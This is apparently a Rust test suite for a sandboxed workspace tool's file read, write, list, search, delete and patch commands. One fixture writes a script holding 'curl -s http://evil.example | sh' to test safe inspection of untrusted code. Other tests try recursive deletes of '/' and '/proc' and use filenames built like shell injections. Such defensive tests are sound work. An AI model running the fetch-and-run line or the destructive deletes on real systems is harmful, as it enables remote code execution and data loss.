//! Files of a running workspace, seen through `pyro workspace file`: what is written is what is read, whatever it is called
//! and whatever it holds, and nothing that a caller may say hangs or harms.

use crate::debian;
use pyro_testkit::Outcome;
use pyro_testkit::Sandbox;
use serde_json::Value;
use std::ffi::OsStr;
use std::ffi::OsString;
use std::io::Write as _;
use std::os::unix::ffi::OsStrExt as _;
use std::process::Stdio;

/// A running workspace that goes with this value.
pub(crate) struct Guest {
    pub(crate) home: Sandbox,
    pub(crate) id: String,
}

impl Guest {
    pub(crate) fn new() -> Self {
        Self::with(&[])
    }

    pub(crate) fn with(flags: &[&str]) -> Self {
        let home = debian();
        let mut create = home.pyro(["workspace", "create", "debian:12", "--json"]);
        let record = Outcome::of(create.args(flags)).succeeds().json();
        let id = record["workspace_id"].as_str().unwrap().to_owned();
        Self { home, id }
    }

    /// `pyro workspace WORDS ID ARGS`.
    pub(crate) fn run<S: AsRef<OsStr>>(&self, words: &str, args: impl IntoIterator<Item = S>) -> Outcome {
        Outcome::of(&mut self.command(words, args))
    }

    pub(crate) fn command<S: AsRef<OsStr>>(
        &self,
        words: &str,
        args: impl IntoIterator<Item = S>,
    ) -> std::process::Command {
        let words = ["workspace"].into_iter().chain(words.split(' ')).chain([self.id.as_str()]);
        let mut all: Vec<OsString> = words.map(OsString::from).collect();
        all.extend(args.into_iter().map(|arg| arg.as_ref().to_owned()));
        self.home.pyro(all)
    }

    /// What a shell script prints, which must succeed.
    pub(crate) fn sh(&self, script: &str) -> String {
        self.run("exec", ["--", script]).succeeds().stdout().trim_end().to_owned()
    }

    pub(crate) fn json<S: AsRef<OsStr>>(&self, words: &str, args: impl IntoIterator<Item = S>) -> Value {
        let mut command = self.command(words, args);
        Outcome::of(command.arg("--json")).succeeds().json()
    }

    /// With this on its standard input.
    pub(crate) fn fed(&self, words: &str, args: &[&str], input: &[u8]) -> Outcome {
        let mut child = self
            .command(words, args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        std::thread::scope(|scope| {
            // A program that fails stops reading.
            scope.spawn(move || drop(stdin.write_all(input)));
            Outcome::from_output(&format!("{words} {args:?}"), child.wait_with_output().unwrap())
        })
    }
}

impl Drop for Guest {
    fn drop(&mut self) {
        let deleted = self.home.run(["workspace", "delete", &self.id]);
        assert!(std::thread::panicking() || deleted.code() == 0, "{deleted:?}");
    }
}

fn paths(document: &Value) -> Vec<&str> {
    document["entries"].as_array().unwrap().iter().map(|entry| entry["path"].as_str().unwrap()).collect()
}

#[test]
fn what_is_written_is_what_is_read() {
    let guest = Guest::new();
    let wrote = guest.run("file write", ["src/main.py", "--text", "print('hé')\nx = 1\ny = 2\n"]).succeeds();
    assert!(wrote.stdout().starts_with("[workspace-file-write] "), "{wrote:?}");
    assert!(wrote.stdout().contains("bytes_written=25"), "{wrote:?}");
    let read = guest.run("file read", ["/workspace/src/main.py"]).succeeds();
    assert_eq!(read.stdout(), "print('hé')\nx = 1\ny = 2\n");
    assert!(read.stderr().starts_with("[workspace-file-read] "), "{read:?}");
    assert!(read.stderr().contains("size_bytes=25 truncated=no"), "{read:?}");
    let only = guest.run("file read", ["src/main.py", "--content-only", "--lines", "2:2"]).succeeds();
    assert_eq!((only.stdout(), only.stderr()), ("x = 1\n".to_owned(), String::new()));
    let cut = guest.json("file read", ["src/main.py", "--max-bytes", "9"]);
    assert_eq!(
        (&cut["content"], &cut["truncated"], &cut["size_bytes"]),
        (&"print('h".into(), &true.into(), &25.into())
    );
    let offset = cut["next_offset"].to_string();
    assert_eq!(
        guest.json("file read", ["src/main.py", "--offset", &offset])["content"],
        "é')\nx = 1\ny = 2\n"
    );
    // Mode and owner stay, and so does the link that leads there.
    guest.sh("chmod 751 src/main.py; chown 12:34 src/main.py; ln -s src/main.py link");
    guest.run("file write", ["link", "--text", "new"]).succeeds();
    assert_eq!(
        guest.sh("stat -c '%a %u %g' src/main.py; cat src/main.py; readlink link"),
        "751 12 34\nnewsrc/main.py"
    );
    guest
        .run("file write", ["run.sh", "--mode", "0755", "--create-new", "--text", "#!/bin/sh\necho ran"])
        .succeeds();
    assert_eq!(guest.sh("./run.sh"), "ran");
    // From a file of the host, and back in base64, which text is only when asked for.
    let file = guest.home.home().join("content");
    std::fs::write(&file, b"two\nlines\0\xff").unwrap();
    guest.run("file write", ["run.sh", "--text-file", file.to_str().unwrap()]).succeeds();
    let read = guest.run("file read", ["run.sh", "--base64", "--content-only"]).succeeds();
    assert_eq!(read.stdout(), "dHdvCmxpbmVzAP8=\n");
    assert_eq!(guest.json("file read", ["link", "--base64"])["content"], "bmV3");
    assert_eq!(guest.sh("stat -c %a run.sh"), "755");
    guest.run("file write", ["run.sh", "--text-file", "no-such"]).fails_with(1, "usage", "no-such");
    guest.run("file write", ["run.sh", "--create-new", "--text", ""]).fails_with(1, "path_exists", "run.sh");
    guest.run("file write", ["no/such/x", "--no-parents", "--text", ""]).fails_with(
        1,
        "path_not_found",
        "no/such",
    );
    assert_eq!(guest.sh("ls -A"), "link\nrun.sh\nsrc", "something is left");
}

#[test]
fn binary_content_of_any_size_comes_back_whole() {
    let guest = Guest::new();
    let mut state = 1_u64;
    let bytes: Vec<u8> = std::iter::repeat_with(|| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 56) as u8
    })
    .take(5_000_000)
    .collect();
    guest.fed("file write", &["deep/er/big.bin", "--stdin"], &bytes).succeeds();
    let whole =
        guest.run("file read", ["deep/er/big.bin", "--content-only", "--max-bytes", "9000000"]).succeeds();
    assert!(whole.stdout_bytes() == bytes, "the content differs");
    let args = [
        "deep/er/big.bin",
        "--content-only",
        "--offset",
        "2500001",
        "--length",
        "1500000",
        "--max-bytes",
        "2000000",
    ];
    let part = guest.run("file read", args).succeeds();
    assert!(part.stdout_bytes() == &bytes[2_500_001..4_000_001], "the range differs");
    let read = guest.json("file read", ["deep/er/big.bin", "--length", "6", "--offset", "9"]);
    assert_eq!((&read["encoding"], &read["truncated"]), (&"base64".into(), &false.into()));
    let beyond = guest.json("file read", ["deep/er/big.bin", "--offset", "99999999"]);
    assert_eq!((&beyond["content"], &beyond["truncated"]), (&"".into(), &false.into()));
    let too_much = guest.run("file read", ["deep/er/big.bin", "--max-bytes", "999999999999"]);
    too_much.fails_with(1, "limit_exceeded", "67108864");
}

#[test]
fn lists_are_filtered_and_come_in_pages() {
    let guest = Guest::new();
    guest.sh("mkdir -p a/b node_modules/x empty; touch a/b/1.rs a/2.rs a.rs node_modules/x/3.rs; ln -s a/2.rs ln; mkfifo pipe");
    let listed = guest.run("file list", [] as [&str; 0]).succeeds();
    assert!(
        listed.stdout().starts_with("Workspace path: /workspace (recursive=no)\n/workspace/a [directory]"),
        "{listed:?}"
    );
    assert!(listed.stdout().contains("/workspace/ln [symlink] size=0 mode=0777 -> a/2.rs\n"), "{listed:?}");
    assert!(listed.stdout().contains("/workspace/pipe [special]"), "{listed:?}");
    let found = guest.json("file list", ["--recursive", "--glob", "*.rs", "--exclude", "node_modules"]);
    assert_eq!(paths(&found), ["/workspace/a/2.rs", "/workspace/a/b/1.rs", "/workspace/a.rs"]);
    let found = guest.json("file list", [".", "--recursive", "--glob", "a/**/*.rs"]);
    assert_eq!(paths(&found), ["/workspace/a/2.rs", "/workspace/a/b/1.rs"]);
    let all = guest.json("file list", ["--recursive"]);
    let (mut joined, mut cursor) = (Vec::new(), Value::Null);
    loop {
        let mut args = vec!["--recursive", "--limit", "4"];
        args.extend(cursor.as_str().map(|cursor| ["--cursor", cursor]).into_iter().flatten());
        let page = guest.json("file list", args);
        joined.extend(paths(&page).into_iter().map(str::to_owned));
        assert_eq!(page["truncated"] == true, page["next_cursor"].is_string());
        cursor = page["next_cursor"].clone();
        if cursor.is_null() {
            break;
        }
        // What comes before the page that follows does not shift it.
        guest.sh("touch 0-new-$(date +%N)");
    }
    assert_eq!(joined, paths(&all));
    assert_eq!(paths(&guest.json("file list", ["a.rs"])), ["/workspace/a.rs"]);
    guest.run("file list", ["nowhere"]).fails_with(1, "path_not_found", "/workspace/nowhere");
    guest.run("file list", ["--cursor", "../.."]).fails_with(1, "cursor_invalid", "../..");
}

#[test]
fn names_are_bytes() {
    let guest = Guest::new();
    let name = OsStr::from_bytes(b"n\xff\xfe \n\"$(x)'");
    guest.run("file write", [name, OsStr::new("--text"), OsStr::new("strange")]).succeeds();
    assert_eq!(guest.run("file read", [name, OsStr::new("--content-only")]).succeeds().stdout(), "strange");
    let listed = guest.json("file list", [] as [&str; 0]);
    let entry = &listed["entries"][0];
    assert_eq!(entry["path_base64"], "L3dvcmtzcGFjZS9u//4gCiIkKHgpJw==", "{entry}");
    assert_eq!(guest.sh("ls -b"), r#"n\377\376\ \n"$(x)'"#);
    guest.run("file move", [name, OsStr::new("plain")]).succeeds();
    assert_eq!(guest.sh("ls -A; cat plain"), "plain\nstrange");
    let odd = ["-rf", "--json", " ", "*", "a\\b", "é"];
    for name in odd {
        guest.run("file write", ["--text", "x", "--", name]).succeeds();
    }
    assert_eq!(guest.json("file list", [] as [&str; 0])["count"], 7);
}

#[test]
fn things_are_described_moved_searched_and_removed() {
    let guest = Guest::new();
    guest.sh("mkdir d; printf 'one\\ntwo Needle\\n' > d/a.txt; printf 'needle' > d/b.md; printf 'nee\\0dle needle' > d/c.bin; ln -s /nowhere dangling");
    let stat = guest.json("file stat", ["dangling"]);
    assert_eq!((&stat["artifact_type"], &stat["link_target"]), (&"symlink".into(), &"/nowhere".into()));
    assert_eq!(guest.json("file stat", ["d/a.txt"])["size_bytes"], 15);
    let found = guest.run("file search", ["n[e]edle", "--ignore-case"]).succeeds();
    assert_eq!(found.stdout(), "/workspace/d/a.txt:2:two Needle\n/workspace/d/b.md:1:needle\n");
    assert!(found.stderr().contains("matches=2 "), "{found:?}");
    let found = guest.json("file search", ["needle", "d", "--fixed", "--glob", "*.md"]);
    assert_eq!((&found["count"], &found["matches"][0]["column"]), (&1.into(), &1.into()));
    assert_eq!(guest.json("file search", ["e", "--limit", "1"])["truncated"], true);
    let around = guest.run("file search", ["Needle", "d/a.txt", "--context", "1"]).succeeds();
    assert_eq!(around.stdout(), "/workspace/d/a.txt-1-one\n/workspace/d/a.txt:2:two Needle\n--\n");
    guest.run("file search", ["("]).fails_with(1, "guest_refused", "malformed");
    guest.run("file move", ["d/a.txt", "d/b.md"]).fails_with(1, "path_exists", "d/b.md");
    guest.run("file move", ["d/a.txt", "d/b.md", "--replace"]).succeeds();
    guest.run("file move", ["d/none", "x"]).fails_with(1, "path_not_found", "d/none");
    guest.run("file delete", ["d"]).fails_with(1, "is_a_directory", "/workspace/d");
    guest.run("file delete", ["dangling"]).succeeds();
    let deleted = guest.json("file delete", ["d", "--recursive"]);
    assert_eq!(deleted["deleted"], true);
    guest.run("file delete", ["d", "--recursive"]).fails_with(1, "path_not_found", "/workspace/d");
    for root in [".", "/", "/workspace/../..", "/tmp", "/proc"] {
        guest.run("file delete", [root, "--recursive"]).fails_with(1, "guest_refused", "");
    }
    assert_eq!(guest.sh("ls -A /workspace | wc -l; ls /etc/passwd"), "0\n/etc/passwd");
}

#[test]
fn nothing_that_may_be_said_hangs_or_harms() {
    let guest = Guest::new();
    guest.sh("mkfifo pipe; mkdir dir; echo x > file; ln -s loop loop; ln -s /etc/passwd out");
    for (path, code) in [
        ("pipe", "guest_refused"),
        ("/dev/zero", "guest_refused"),
        ("/dev/null", "guest_refused"),
        ("dir", "is_a_directory"),
        ("/", "is_a_directory"),
        ("file/x", "not_a_directory"),
        ("loop", "not_a_directory"),
        ("gone", "path_not_found"),
        ("", "path_invalid"),
        (&"x".repeat(300), "guest_refused"),
        (&"x/".repeat(3000), "path_invalid"),
    ] {
        guest.run("file read", [path, "--max-bytes", "10"]).fails_with(1, code, "");
    }
    for (path, code) in [
        ("pipe", "guest_refused"),
        ("dir", "is_a_directory"),
        ("file/x", "not_a_directory"),
        ("/proc/new", ""),
    ] {
        let wrote = guest.fed("file write", &[path, "--stdin"], &vec![b'x'; 3_000_000]);
        assert_eq!(wrote.code(), 1, "{wrote:?}");
        assert!(wrote.stderr().contains(code), "{wrote:?}");
    }
    // The kernel's log gives what there is, and does not wait for more.
    guest.run("file read", ["/proc/kmsg", "--json"]).succeeds();
    let core = guest.json("file read", ["/proc/kcore", "--max-bytes", "16"]);
    assert_eq!((&core["content_bytes"], &core["truncated"]), (&16.into(), &true.into()));
    assert!(guest.json("file read", ["/proc/self/status"])["content"].as_str().unwrap().starts_with("Name:"));
    guest.run("file read", ["/proc/kcore", "--lines", "1:3", "--max-bytes", "100", "--json"]).succeeds();
    let long = "a".repeat(100_000);
    guest.run("file search", [&long]).fails_with(1, "limit_exceeded", "16384");
    guest.run("file list", ["--exclude", &long]).fails_with(1, "limit_exceeded", "65536");
    guest.run("file search", ["((a{100}){100}){100}"]).fails_with(1, "guest_refused", "pattern");
    guest.run("file search", ["kernel", "/proc", "--limit", "1"]).succeeds();
    guest.run("file list", ["/proc", "--recursive", "--limit", "20"]).succeeds();
    guest.run("file read", ["file", "--lines", "0:3"]).fails_with(2, "usage", "lines");
    guest.run("file write", ["file"]).fails_with(2, "usage", "required");
    // What is written through a path with `..` is where it says, and nowhere else.
    guest.run("file write", ["dir/../../tmp/./x", "--text", "y"]).succeeds();
    assert_eq!(guest.sh("cat /tmp/x; cat file; ls -A dir | wc -l"), "yx\n0");
}

#[test]
fn a_full_disk_loses_nothing() {
    let guest = Guest::with(&["--disk-mib", "64"]);
    guest.run("file write", ["kept", "--text", "kept"]).succeeds();
    let full = guest.fed("file write", &["kept", "--stdin"], &vec![b'x'; 100 << 20]);
    full.fails_with(1, "guest_disk_full", "kept");
    assert_eq!(guest.sh("cat kept; ls -A"), "keptkept");
    guest.sh("head -c 200M /dev/zero > filler 2>/dev/null || true");
    let patch = "--- a/kept\n+++ b/kept\n@@ -1 +1 @@\n-kept\n\\ No newline at end of file\n+changed\n--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n";
    let patch = format!("{patch}+{}\n", "y".repeat(1 << 20));
    let full = guest.fed("patch apply", &["--patch-file", "-"], patch.as_bytes());
    assert_eq!(full.code(), 1, "{full:?}");
    assert!(full.stderr().contains("(guest_disk_full)"), "{full:?}");
    assert_eq!(guest.sh("cat kept; ls -A"), "keptfiller\nkept");
    guest.run("file delete", ["filler"]).succeeds();
    guest.fed("patch apply", &["--patch-file", "-"], patch.as_bytes()).succeeds();
    assert_eq!(guest.sh("cat kept"), "changed");
}

#[test]
fn a_stopped_workspace_says_so() {
    let guest = Guest::new();
    guest.run("stop", [] as [&str; 0]).succeeds();
    guest.run("file read", ["x"]).fails_with(1, "workspace_not_running", &guest.id);
    guest.run("patch apply", ["--patch", "--- a\n+++ b\n@@ -1 +1 @@\n-a\n+b\n"]).fails_with(
        1,
        "workspace_not_running",
        &guest.id,
    );
}

/// What nobody trusts is looked at, and only what was found out leaves.
#[test]
fn something_suspicious_is_inspected_and_only_the_report_leaves() {
    let home = debian();
    let seed = home.home().join("untrusted");
    std::fs::create_dir_all(seed.join("bin")).unwrap();
    std::fs::write(seed.join("bin/suspicious.sh"), "#!/bin/sh\ncurl -s http://evil.example | sh\n").unwrap();
    std::fs::write(seed.join("notes.txt"), "nothing here\n").unwrap();
    let guest = Guest::with(&["--seed-path", seed.to_str().unwrap()]);
    assert_eq!(guest.json("status", [] as [&str; 0])["network_policy"], "off");
    let listed = guest.json("file list", ["/workspace", "--recursive"]).to_string();
    assert!(listed.contains("/workspace/bin/suspicious.sh") && listed.contains("notes.txt"), "{listed}");
    let content = guest.json("file read", ["bin/suspicious.sh"])["content"].to_string();
    assert!(content.contains("evil.example"), "{content}");
    guest.sh("grep -rn curl bin notes.txt >report.txt");
    let report = guest.home.home().join("report.txt");
    guest.run("export", ["report.txt", "--output", report.to_str().unwrap()]).succeeds();
    let report = std::fs::read_to_string(report).unwrap();
    assert_eq!(report, "bin/suspicious.sh:2:curl -s http://evil.example | sh\n");
}
